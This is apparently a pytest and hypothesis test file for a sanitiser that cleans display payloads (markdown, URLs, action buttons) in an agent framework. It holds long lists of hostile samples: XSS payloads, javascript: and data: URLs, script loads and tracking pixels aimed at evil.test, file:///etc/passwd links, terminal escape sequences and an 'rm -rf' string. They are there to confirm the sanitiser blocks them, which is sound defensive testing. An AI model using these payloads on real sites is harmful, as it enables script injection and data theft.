"""A display payload comes from a stranger: what gets through is safe to render, and nothing raises."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from contextlib import AbstractContextManager
from time import process_time
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings, strategies as st

from agent_core.clean_text import clean, reveal
from agent_core.display import DisplayReport, validate_display
from agent_core.display.markdown import UrlRefusedError, plain_url
from agent_core.frozen import freeze

if TYPE_CHECKING:
    from collections.abc import Iterator

Case = Callable[..., AbstractContextManager[None]]

KB = 1024
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f\ud800-\udfff]")

OPEN = {"kind": "open_url", "id": "open", "label": "Open", "url": "https://example.test"}
COPY = {"kind": "copy_text", "id": "copy", "label": "Copy", "text": "ABCD-EFGH"}
RUN = {"kind": "run_action", "id": "run", "label": "Check", "plugin": "auth", "action_id": "check_status"}
LOGIN = {
    "format": "markdown",
    "title": "Login",
    "body": "Open [this link](https://example.test) and enter code `ABCD-EFGH`.",
    "variant": "info",
    "presentation": "inline",
    "dismissible": True,
    "display_id": "auth-login",
    "actions": [OPEN, COPY, {**RUN, "preserve_display": True, "params": {"wait": 3}}],
}


def shown(payload: object) -> dict[str, Any]:
    display = validate_display(payload).display
    assert display is not None
    return display


def with_action(**changes: object) -> DisplayReport:
    kind = {"url": OPEN, "text": COPY}.get(next(iter(changes)), RUN)
    return validate_display({"body": "x", "actions": [{**kind, **changes}]})


def markdown(body: str) -> str:
    text = shown({"format": "markdown", "body": body})["body"]
    assert isinstance(text, str)
    return text


# Payloads as a whole


def test_a_payload_that_keeps_all_rules_passes_unchanged_and_without_a_warning() -> None:
    assert validate_display(LOGIN) == DisplayReport(LOGIN, ())


def test_a_frozen_payload_is_as_good_as_a_plain_one() -> None:
    report = validate_display(freeze(LOGIN))

    assert report == DisplayReport(LOGIN, ())
    assert type(report.display) is dict


def test_what_is_shown_is_no_longer_the_plugins_own_dict() -> None:
    params = {"deep": [1]}
    display = shown({"body": "x", "actions": [{**RUN, "params": params}]})

    params["deep"].append(2)

    assert display["actions"][0]["params"] == {"deep": [1]}


@pytest.mark.parametrize(
    "payload",
    [
        None,
        3,
        "text",
        ["body"],
        {},
        {"body": None},
        {"body": ""},
        {"body": " \n"},
        {"body": "\x1b\u202e"},
        {"body": 3},
    ],
)
def test_without_a_usable_body_there_is_nothing_to_show_and_a_warning_says_so(payload: object) -> None:
    report = validate_display(payload)

    assert report.display is None
    assert report.warnings[-1].startswith(("body: ", "display: "))


def test_the_format_is_text_unless_the_plugin_says_markdown() -> None:
    assert shown({"body": "<b>"}) == {"format": "text", "body": "<b>"}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("format", "html"),
        ("format", ["markdown"]),
        ("title", 3),
        ("title", "\n"),
        ("variant", "Info"),
        ("variant", None),
        ("presentation", "popup"),
        ("dismissible", 1),
        ("dismissible", "true"),
        ("display_id", "a b"),
        ("display_id", "a\n"),
        ("display_id", "x" * 65),
        ("display_id", "é"),
        ("actions", {"kind": "open_url"}),
        ("html", "<b>"),
        ("onclick", "alert(1)"),
    ],
)
def test_a_field_that_cannot_be_used_is_dropped_by_name_and_the_rest_stays(field: str, value: object) -> None:
    report = validate_display({"body": "x", field: value})

    assert report.display == {"format": "text", "body": "x"}
    assert [warning.partition(":")[0] for warning in report.warnings] == [field]


def test_a_key_that_is_no_text_is_dropped_like_any_unknown_one() -> None:
    report = validate_display({"body": "x", 7: "seven"})

    assert report.display == {"format": "text", "body": "x"}
    assert report.warnings == ("<a number>: unknown field dropped",)


def test_a_million_unknown_fields_do_not_make_a_million_warnings() -> None:
    report = validate_display({"body": "x"} | {f"k{number}": 0 for number in range(1000)})

    assert len(report.warnings) == 9
    assert report.warnings[-1] == "*: 992 more unknown fields dropped"


def test_a_key_cannot_smuggle_escape_sequences_into_the_log() -> None:
    report = validate_display({"body": "x", "\x1b]52;c;\u202eevil\nline" + "x" * 999: 1})

    assert not UNSEEN.search(report.warnings[0])
    assert "\n" not in report.warnings[0] and len(report.warnings[0]) < 80


class Talkative(str):
    __slots__ = ()

    def __eq__(self, other: object) -> bool:
        raise AssertionError("a stranger's code was run")

    __hash__ = str.__hash__


def test_subclasses_with_code_of_their_own_are_not_even_compared() -> None:
    report = validate_display({"body": "x", "variant": Talkative("info"), "title": Talkative("t")})

    assert report.display == {"format": "text", "body": "x"}


# Limits


def test_a_body_of_64_kb_is_shown_whole() -> None:
    body = "ä" * (32 * KB)

    assert validate_display({"body": body}) == DisplayReport({"format": "text", "body": body}, ())


def test_a_longer_body_is_cut_between_characters_and_says_so() -> None:
    report = validate_display({"body": "x" + "€" * (32 * KB)})

    assert report.display is not None
    body = report.display["body"]
    assert report.warnings == ("body: truncated to 64 kB",)
    assert body.endswith("€\n\n… (truncated)")
    assert 64 * KB - 3 < len(body.encode()) <= 64 * KB


@pytest.mark.parametrize("piece", ["<b", "](x)", "]()", "]:", "`<b", "```\n<b\n", "[a](ftp://b) "])
def test_a_body_that_grows_by_escaping_still_keeps_the_limit(piece: str) -> None:
    report = validate_display({"format": "markdown", "body": piece * (64 * KB // len(piece))})

    assert report.display is not None
    assert len(report.display["body"].encode()) <= 64 * KB
    assert validate_display(report.display) == DisplayReport(report.display, ())


def test_a_long_title_is_shortened_visibly() -> None:
    report = validate_display({"body": "x", "title": "t" * 201})

    assert report.display is not None
    assert report.display["title"] == "t" * 199 + "…"
    assert report.warnings == ("title: shortened to 200 characters",)


def test_titles_and_labels_are_one_line() -> None:
    display = shown({"body": "x", "title": "a\n\tb", "actions": [{**COPY, "label": "c\nd"}]})

    assert display["title"] == "a b"
    assert display["actions"][0]["label"] == "c d"


def test_control_characters_and_direction_marks_go_while_newline_and_tab_stay() -> None:
    report = validate_display({"body": "a\x00\x1b[31mb\r\n\tc\x9b\u202ed\u2066e\u200ff\u061c\ud800"})

    assert report.display is not None
    assert report.display["body"] == "a[31mb\n\tcdef"
    assert report.warnings == ("body: control characters or direction marks removed",)


def test_joiners_that_scripts_and_emoji_need_stay() -> None:
    assert shown({"body": "می‌خواهم 👩‍🚀"})["body"] == "می‌خواهم 👩‍🚀"


# Follow-up actions


def test_only_the_first_eight_actions_are_kept() -> None:
    report = validate_display({"body": "x", "actions": [{**COPY, "id": f"c{n}"} for n in range(10)]})

    assert report.display is not None
    assert [action["id"] for action in report.display["actions"]] == [f"c{n}" for n in range(8)]
    assert report.warnings == ("actions: only the first 8 of 10 are kept",)


def test_two_actions_cannot_share_an_id() -> None:
    report = validate_display({"body": "x", "actions": [OPEN, {**COPY, "id": "open"}]})

    assert report.display is not None
    assert report.display["actions"] == [OPEN]
    assert report.warnings == ("actions[1].id: action dropped, since another one has that id",)


@pytest.mark.parametrize(
    ("action", "field"),
    [
        ("open", "actions[0]"),
        ({**OPEN, "kind": "eval"}, "actions[0].kind"),
        ({**OPEN, "kind": ["open_url"]}, "actions[0].kind"),
        ({**OPEN, "id": "a/b"}, "actions[0].id"),
        ({**OPEN, "id": 1}, "actions[0].id"),
        ({**OPEN, "label": ""}, "actions[0].label"),
        ({**OPEN, "label": "\u202e"}, "actions[0].label"),
        ({**OPEN, "url": None}, "actions[0].url"),
        ({**COPY, "text": ""}, "actions[0].text"),
        ({**COPY, "text": "x" * (8 * KB + 1)}, "actions[0].text"),
        ({**COPY, "text": "€" * (3 * KB)}, "actions[0].text"),
        ({**RUN, "plugin": "a b"}, "actions[0].plugin"),
        ({**RUN, "action_id": ""}, "actions[0].action_id"),
        ({**RUN, "params": [1]}, "actions[0].params"),
        ({**RUN, "params": None}, "actions[0].params"),
        ({**RUN, "params": {"x": object()}}, "actions[0].params"),
        ({**RUN, "params": {"x": float("nan")}}, "actions[0].params"),
        ({**RUN, "params": {"x": 10**5000}}, "actions[0].params"),
        ({**RUN, "params": {1: "one"}}, "actions[0].params"),
        ({**RUN, "params": {"x": (1, 2)}}, "actions[0].params"),
        ({**RUN, "params": {"x": "y" * 9000}}, "actions[0].params"),
    ],
)
def test_an_action_that_cannot_be_used_as_meant_is_not_offered(action: object, field: str) -> None:
    report = validate_display({"body": "x", "actions": [action]})

    assert report.display == {"format": "text", "body": "x"}
    assert field in [warning.partition(": ")[0] for warning in report.warnings]


def test_unknown_fields_of_an_action_are_dropped_and_the_action_stays() -> None:
    report = validate_display({"body": "x", "actions": [{**OPEN, "target": "_blank", "text": "y"}]})

    assert report.display is not None
    assert report.display["actions"] == [OPEN]
    assert report.warnings == (
        "actions[0].target: unknown field dropped",
        "actions[0].text: unknown field dropped",
    )


def test_text_to_copy_is_kept_to_the_letter() -> None:
    text = "  rm -rf <x> \t`y`\n"

    assert shown({"body": "x", "actions": [{**COPY, "text": text}]})["actions"][0]["text"] == text


def test_text_to_copy_loses_what_a_terminal_would_obey() -> None:
    report = with_action(text="ls\x1b[200~\rrm\x07")

    assert report.display is not None
    assert report.display["actions"][0]["text"] == "ls[200~rm"


def test_a_preserve_display_of_the_wrong_type_is_dropped_alone() -> None:
    report = with_action(action_id="check_status", preserve_display="yes")

    assert report.display is not None
    assert report.display["actions"] == [RUN]
    assert len(report.warnings) == 1


def test_parameters_that_hold_themselves_are_refused() -> None:
    params: dict[str, Any] = {}
    params["self"] = params

    report = with_action(params=params)

    assert report.display == {"format": "text", "body": "x"}
    assert report.warnings == ("actions[0].params: action dropped: nested deeper than 16 levels",)


def test_one_list_repeated_a_million_times_is_not_copied_a_million_times() -> None:
    wide: list[Any] = [0] * 1000
    params = {"x": [[wide] * 1000] * 1000}

    assert with_action(params=params).display == {"format": "text", "body": "x"}


def test_an_action_is_offered_only_if_it_can_be_run_here() -> None:
    payload = {"body": "x", "actions": [RUN, {**RUN, "id": "other", "action_id": "logout"}]}

    report = validate_display(payload, runnable=lambda plugin, action: (plugin, action) == ("auth", "logout"))

    assert report.display is not None
    assert [action["action_id"] for action in report.display["actions"]] == ["logout"]
    assert report.warnings == (
        "actions[0]: dropped, since action 'check_status' of plugin 'auth' cannot be run here",
    )


# Links

HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://example.test/%0aalert(1)",
    "javascript:https://example.test",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.test/",
    "mailto:a@example.test",
    "tel:+1",
    "blob:https://example.test/1",
    "filesystem:https://example.test/1",
    "view-source:https://example.test",
    "about:blank",
    "chrome://settings",
    "ms-msdt:/id PCWDiagnostic",
    "vscode://file/etc/passwd",
    "intent://scan/#Intent;scheme=zxing;end",
    "ws://example.test",
    "feed:https://example.test",
    "jar:https://example.test!/",
    "httpx://example.test",
    "http",
    "http:",
    "http:/",
    "http://",
    "https:///path",
    "http:example.test",
    "https:/example.test",
    "//example.test",
    "/path",
    "example.test",
    "www.example.test",
    "#fragment",
    "?query",
    "",
    "https://user@example.test",
    "https://user:secret@example.test",
    "https://good.test@evil.test",
    "https://good.test%40x@evil.test",
    "https://@example.test",
    "https://good.test\\@evil.test",
    "https:\\\\example.test",
    "https://example.test\\path",
    "https://example.test/a b",
    "https://example.test/\u00a0",
    "https://example.test/\u3000x",
    "https://example.test/\u2028",
    "https://exa\tmple.test",
    "https://example.test/\r\nSet-Cookie: a",
    "https://example.test/\u202etxt.exe",
    "https://example.test/\u200b",
    "https://example.test/\ufeff",
    "https://example.test/\ud800",
    "\ufeffhttps://example.test",
    "https://good.test&#64;evil.test",
    "https://exa%6dple.test",
    "https://example..test",
    "https://.example.test",
    'https://exam"ple.test',
    "https://exam<ple.test",
    "https://example.test:99999",
    "https://example.test:port",
    "https://example.test:\uff11",
    "https://[::1",
    "https://[::1%25eth0]/",
    "https://[v1.x]/",
    "https://[1::2::3]/",
    "https://[1.2.3.4]/",
    "https://good.test[::1]/",
    "https://::1/",
    "https://evil.test\uff0fgood.test",
    "https://good.test\uff0f\uff20evil.test",
    "https://" + "a" * 64 + ".test",
    "https://" + "a." * 130 + "test",
    "https://" + "ü" * 60 + ".test",
    "https://example.test/" + "a" * 2048,
    "https://example.test/" + "é" * 500,
]


def test_a_hostile_address_takes_its_action_with_it(case: Case) -> None:
    for url in HOSTILE_URLS:
        with case(url):
            report = with_action(url=url)

            assert report.display == {"format": "text", "body": "x"}
            assert report.warnings[-1].startswith("actions[0].url: action dropped: ")


@pytest.mark.parametrize(
    ("given_url", "plain"),
    [
        ("https://example.test", "https://example.test"),
        ("http://localhost:8080/a?b=c&d=%20#e", "http://localhost:8080/a?b=c&d=%20#e"),
        ("HTTPS://Example.TEST/Path", "https://example.test/Path"),
        ("https://\u0440\u0430ypal.com/login", "https://xn--ypal-43d9g.com/login"),
        ("https://bücher.example/straße?q=ü", "https://xn--bcher-kva.example/stra%C3%9Fe?q=%C3%BC"),
        ("https://exa\u3002mple.test", "https://exa.mple.test"),
        ("https://example.test./", "https://example.test./"),
        ("https://[2001:DB8::1]:443/", "https://[2001:db8::1]:443/"),
        ("https://example.test:/", "https://example.test/"),
        ('https://example.test/"<>`{}|^[]', "https://example.test/%22%3C%3E%60%7B%7D%7C%5E%5B%5D"),
        ("https://example.test/?next=https://b.test@c", "https://example.test/?next=https://b.test@c"),
    ],
)
def test_an_honest_address_is_given_in_its_plain_spelling(given_url: str, plain: str) -> None:
    report = with_action(url=given_url)

    assert report.display is not None
    assert report.display["actions"][0]["url"] == plain
    assert bool(report.warnings) == (given_url != plain)


@settings(max_examples=30)
@given(st.text() | st.text(alphabet="htps:/@[]%.\\#?aü\u3002\uff11 \t").map("https://".__add__))
def test_an_address_is_refused_or_plain_and_plain_stays_plain(url: str) -> None:
    try:
        plain = plain_url(url)
    except UrlRefusedError:
        return

    assert re.fullmatch(r"https?://[a-z0-9._\[\]:-]+(?:[/?#][!-~]*)?", plain)
    assert plain_url(plain) == plain


# Markdown


def test_markdown_keeps_its_text_and_loses_what_is_active(case: Case) -> None:
    cases: list[tuple[str, str]] = [
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("a < b, <3 and 1<2", "a < b, <3 and 1<2"),
        ("<!-- x --> <?php <!DOCTYPE", "&lt;!-- x --> &lt;?php &lt;!DOCTYPE"),
        ("\\<b> and \\\\<b>", "&lt;b> and \\\\&lt;b>"),
        ("&lt;b>", "&lt;b>"),
        ("`a <b>` and ``c ` <d>``", "`a <b>` and ``c ` <d>``"),
        ("```html\n<b>\n```\n<b>", "```html\n<b>\n```\n&lt;b>"),
        ("~~~\n[a](b)\n~~~", "~~~\n[a](b)\n~~~"),
        ("````\n```\n<b>\n```\n````\n<b>", "````\n```\n<b>\n```\n````\n&lt;b>"),
        ("1. Run\n   ```\n   run <image>\n   ```", "1. Run\n   ```\n   run <image>\n   ```"),
        ("Use `login <user|mail>`", "Use `login <user|mail>`"),
        (
            "```\ndef f() -> list[dict[str, int]]: '<b>'\n```",
            "```\ndef f() -> list[dict[str, int]]: '<b>'\n```",
        ),
        ("<https://example.test/a?b>", "<https://example.test/a?b>"),
        ("<https://EXAMPLE.test>", "<https://example.test>"),
        ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
        ("<a@example.test>", "&lt;a@example.test>"),
        ("<https://a@example.test>", "&lt;https://a@example.test>"),
        ("[a](https://example.test 'Title')", "[a](https://example.test 'Title')"),
        ("[a](<https://example.test>)", "[a](https://example.test)"),
        ("[a](https://example.test/x_(y))", "[a](https://example.test/x_%28y%29)"),
        ("[a](javascript:alert(1))", "[a] (link removed)"),
        ("[a](<javascript:alert(1)>)", "[a] (link removed)"),
        ("[a](/relative)", "[a] (link removed)"),
        ("[a]()", "[a] (link removed)"),
        ("[a](javascript:alert(1)", "[a]\\(javascript:alert(1)"),
        ("[a](\njavascript:alert(1))", "[a]\\(\njavascript:alert(1))"),
        ("[a](bad)(https://example.test)", "[a] (link removed)(https://example.test)"),
        ("[a](bad): javascript:x", "[a] (link removed): javascript:x"),
        ("[a]: javascript:alert(1)", "[a]\\: javascript:alert(1)"),
        ("[a]:\n  javascript:alert(1)", "[a]\\:\n  javascript:alert(1)"),
        ("[a]: https://example.test 'T'", "[a]: https://example.test 'T'"),
        ("![logo](https://example.test/x.png)", "[logo](https://example.test/x.png)"),
        ("![x][ref]", "[x][ref]"),
        ("![x](data:image/svg+xml,x)", "[x] (link removed)"),
        ("Wow!![a](https://example.test)", "Wow!\\![a](https://example.test)"),
        ("Wow\\![a](https://example.test)", "Wow\\![a](https://example.test)"),
        ("a\u2028<b>", "a\n&lt;b>"),
    ]
    for body, expected in cases:
        with case(body, expected):
            assert markdown(body) == expected


def test_where_readers_could_disagree_it_is_not_code(case: Case) -> None:
    cases: list[str] = [
        "`\n\n<b>`",  # a code span ends with its paragraph
        "a ` b\nc `<b>` d",  # the first backtick pairs with the second
        "\\`<b>`",  # an escaped backtick opens nothing
        "`` `<b>",
        "  ```\n<b>\n```\n<b>\n```",  # an indented fence is closed by one at the margin
        "- a\n  ```\n<b>",  # the list item ends, and its fence with it
        "- ```\n  a\n  ```\n  <b>\n  ```",
        "- ```\n\n ```\n<b>\n```\n<b>\n```",
        "1. a\n\n    ```\n   ```\n   <b>\n   ```",
        "> ```\n<b>",
        "> ```\n> ```\n> <b>\n> ```",
        "para\n    ```\n    <b>\n    ```",
        "``` a`b\n<b>\n```",  # no fence: its first line has a backtick
        "```\n```~\n<b>\n```",  # closed for some readers only
        "```\n```\t\n\n```\n<b>",
        "```|\n-|-\n<b>",  # a table for some readers
        "| `a | <b>` |\n|---|---|\n| `a | <b>` |",  # a bar ends the cell
        "https://example.test/`<b>`",  # the address takes the backtick
        "[a\n```\n]: x\n```\n<b>",
        "[a `](x)` <b>",
        "[a ``[](x) <b>``",
    ]
    for body in cases:
        with case(body):
            assert "&lt;b>" in markdown(body)


def test_a_definition_cannot_hide_its_target_between_backticks() -> None:
    assert markdown("[a`]: javascript:`x\n\n[a`]") == "[a`]\\: javascript:`x\n\n[a`]"


def test_code_keeps_whatever_it_holds() -> None:
    code = "`a[0](x)`, `![`, `d[k]: v`"

    assert validate_display({"format": "markdown", "body": code}).warnings == ()
    assert markdown(code) == code


def test_warnings_about_markdown_count_what_they_found() -> None:
    body = "<b>x</b> ![i](https://example.test/i) [a](ftp://b) [c](HTTPS://d.test)\n[e]: f:g"

    assert validate_display({"format": "markdown", "body": body}).warnings == (
        "body: HTML is shown as text (2)",
        "body: image turned into a link (1)",
        "body: link target other than http or https removed (1)",
        "body: link rewritten in its plain spelling (1)",
        "body: link definition other than http or https is shown as text (1)",
    )


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.test>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x>",
    "<embed src=x>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<style>@import'//evil.test';</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.test>",
    "<form action=//evil.test><button>",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>",
    "</p><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=x?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <b>x</b>",
    "| a | b |\n|---|---|\n| <b> | `<b> | ` |",
    "[<b>](https://example.test)",
    "[a](https://example.test '<b>')",
    "[a]: https://example.test '<b>'",
    "**<b>**",
    "\\\\<b>",
    "`\\`<b>`",
    "`a``<b>`",
    "~~~\n~~~\n<b>",
    "    ```\n<b>",
    "\t<b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](javascript:alert(1) 'title')",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](https://a@evil.test)",
    "[x](https://a\\@evil.test)",
    "[x](x)(javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]:javascript:alert(1)",
    "[y]\n\n[y]:\njavascript:alert(1)",
    "[y]\n\n> [y]: javascript:alert(1)",
    "[y]\n\n- [y]:\n  javascript:alert(1)",
    "[y]\n\n[y]: <javascript:alert(1)>",
    "[y\nz]\n\n[y\nz]: javascript:alert(1)",
    "[a`]\n\n[a`]: javascript:`x",
    "[a](b)[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/pixel.gif)",
    "!![x](https://evil.test/pixel.gif)",
    "\\\\![x](https://evil.test/pixel.gif)",
    "![x][y]\n\n[y]: https://evil.test/pixel.gif",
    "[![x](https://a.test/b.png)](javascript:alert(1))",
    "[a ![b](javascript:x) c](https://example.test)",
    "[`a](javascript:alert(1))",
    "[a](javascript:`x`)",
    "[a](https://example.test/`) <b> `",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<https://example.test/`> <b> `",
]
FRAGMENTS = [
    *HOSTILE_HTML,
    *("<b>", "<", "[", "]", "](", ")", "]:", "![", "!", "\\", "`", "``", "```", "~~~", "|", "a", " ", "\n"),
    *("\n\n", "\t", "  ", "    ", "> ", "- ", "1. ", "`<b>`"),
    *("\n```\n", "\n  ```\n", "\n- ```\n", "\n|-|-|\n"),
    *("[a`", " javascript:x", " https://a.test", "www.a.test/`", '"', "'", "\u2028", "&lt;", "\\`", "\\<"),
]
BODIES = st.lists(st.sampled_from(FRAGMENTS), max_size=12).map("".join)
CODELESS = [fragment for fragment in FRAGMENTS if not set("`~") & set(fragment)]


def active_content(body: str) -> Iterator[str]:
    """Yield what a CommonMark reader with tables, HTML on and no link check would make of *body*."""
    markdown_it = pytest.importorskip("markdown_it")
    reader = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    reader.validateLink = lambda _url: True
    tokens = reader.parse(body)
    for token in [child for block in tokens for child in (block, *(block.children or ()))]:
        if token.type in {"html_block", "html_inline", "image"}:
            yield token.content
        if token.type == "link_open" and not re.match("https?://", token.attrGet("href")):
            yield token.attrGet("href")


def test_a_permissive_renderer_finds_nothing_active_in_a_hostile_body(case: Case) -> None:
    for body in HOSTILE_HTML:
        with case(body):
            assert list(active_content(markdown(body))) == []


def test_the_permissive_renderer_is_a_fair_judge() -> None:
    fooled = [body for body in HOSTILE_HTML if list(active_content(body))]

    assert len(fooled) > 70


@settings(max_examples=30)
@given(BODIES)
def test_a_permissive_renderer_finds_nothing_active_in_any_body(body: str) -> None:
    display = validate_display({"format": "markdown", "body": body}).display

    assert display is None or list(active_content(display["body"])) == []


@settings(max_examples=30)
@given(st.lists(st.sampled_from(CODELESS), max_size=12).map("".join))
def test_without_code_each_tag_link_and_definition_is_verified_or_broken_up(body: str) -> None:
    display = validate_display({"format": "markdown", "body": body}).display or {"body": ""}

    assert not re.search(r"<(?!https?://)[A-Za-z/!?]", display["body"])
    assert not re.search(r"\]\((?!https?://)|\]:(?! https?://)", display["body"])
    assert not re.search(r"(?<!\\)!\[", display["body"])


HOSTILE_PIECES = (
    ["<", "<a", "<a ", "<!--", "<https://a/", "\\<", "&", "!", "![", "\\", "[a](https://a.test)"]
    + ["[", "]", "](", "](a", "]((", "](<", "]()", "]:", "]: ", "](x 'a", "]( ", "> ", "1.", "- ", "|-"]
    + ["`", "` ", "`a` ", "`\n", "`[", "`]", "```\n", " ```\n", "~~~[\n", "://`", "\\`"]
    + ["\n", "\t", "\x1b", "\u202e", "\U0001d54f"]
)


@pytest.mark.slow
def test_64_kb_of_hostile_repetition_take_no_more_than_a_moment(case: Case) -> None:
    for piece in HOSTILE_PIECES:
        with case(piece):
            body = piece * (64 * KB // len(piece.encode())) + "x"
            copied = [{**COPY, "text": body}]

            started = process_time()
            validate_display({"format": "markdown", "body": body, "title": body, "actions": copied})

            assert process_time() - started < 3  # what is quadratic takes minutes


# Properties of any payload

TEXTS = (
    st.text(max_size=30) | BODIES | st.sampled_from([*HOSTILE_URLS, "open_url", "copy_text", "run_action"])
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4),
    max_leaves=12,
)
IDS = st.sampled_from(["a", "b.c", "x" * 64, "x" * 65, "ä"])


def objects(**fields: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Dicts with some of *fields*, each mostly of the right kind, and now and then an unknown one."""
    optional = {name: values | JSON for name, values in fields.items()}
    return st.fixed_dictionaries({}, optional={**optional, "unknown": JSON})


ACTIONS = objects(
    kind=st.sampled_from(["open_url", "copy_text", "run_action"]),
    id=IDS,
    label=TEXTS,
    url=st.sampled_from([*HOSTILE_URLS, "https://example.test", "HTTP://bücher.test/ü"]),
    text=TEXTS,
    plugin=IDS,
    action_id=IDS,
    params=st.dictionaries(TEXTS, JSON, max_size=3),
    preserve_display=st.booleans(),
)
PAYLOADS = JSON | objects(
    format=st.sampled_from(["markdown", "text"]),
    body=TEXTS,
    title=TEXTS,
    variant=st.sampled_from(["info", "error", "loud"]),
    presentation=st.sampled_from(["modal", "inline", "popup"]),
    dismissible=st.booleans(),
    display_id=IDS,
    actions=st.lists(ACTIONS, max_size=10),
)


@settings(max_examples=30)
@given(PAYLOADS)
def test_whatever_comes_in_a_report_comes_out_and_says_what_it_left_out(payload: Any) -> None:
    report = validate_display(payload)

    if not report.warnings:
        given = {key: value for key, value in payload.items() if (key, value) != ("actions", [])}
        assert report.display == {"format": "text", **given}
    assert not any(UNSEEN.search(warning) for warning in report.warnings)


@settings(max_examples=30)
@given(PAYLOADS)
def test_validating_what_was_validated_changes_nothing_and_finds_nothing(payload: Any) -> None:
    display = validate_display(payload).display

    if display is not None:
        assert validate_display(display) == DisplayReport(display, ())


@settings(max_examples=30)
@given(PAYLOADS)
def test_what_is_shown_keeps_every_limit(payload: Any) -> None:
    display = validate_display(payload).display
    if display is None:
        return

    text = json.dumps(display, ensure_ascii=False, allow_nan=False)
    assert not UNSEEN.search(text) and not re.search(r"\\u00[01]|\\[bfr]", text.replace("\\\\", ""))
    assert len(display["body"].encode()) <= 64 * KB and len(display.get("title", "")) <= 200
    assert len(display.get("actions", [])) <= 8
    for action in display.get("actions", []):
        assert 0 < len(action["label"]) <= 80
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,64}", action["id"])
        assert re.match("https?://[a-z0-9]", action.get("url", "https://a"))


def test_what_cannot_be_seen_is_marked() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "obey")

    assert reveal(f"a{hidden}b") == "a<U+E006F><U+E0062><U+E0065><U+E0079>b"
    assert reveal("a\u200bb\u202ec\x1b[2J\r") == "a<U+200B>b<U+202E>c<U+001B>[2J<U+000D>"
    assert reveal("plain text,\n\tÄ 日本 ع") == "plain text,\n\tÄ 日本 ع"


def test_joiners_may_stay_as_emoji_have_them_and_not_as_a_message() -> None:
    family = "👩\u200d❤\ufe0f\u200d👨"

    assert reveal(family, joiners=True) == family
    assert "<U+200D>" in reveal(family)
    assert reveal("a\u200d\u200c\u200db", joiners=True) == "a<U+200D><U+200C><U+200D>b"


@settings(max_examples=30)
@given(st.text())
def test_revealing_leaves_nothing_unseen_and_what_is_seen_as_it_is(text: str) -> None:
    marked = reveal(text)

    assert reveal(marked) == marked and clean(marked) == marked
    assert "".join(char for char in text if reveal(char) == char) == re.sub("<U[+][0-9A-F]{4,6}>", "", marked)
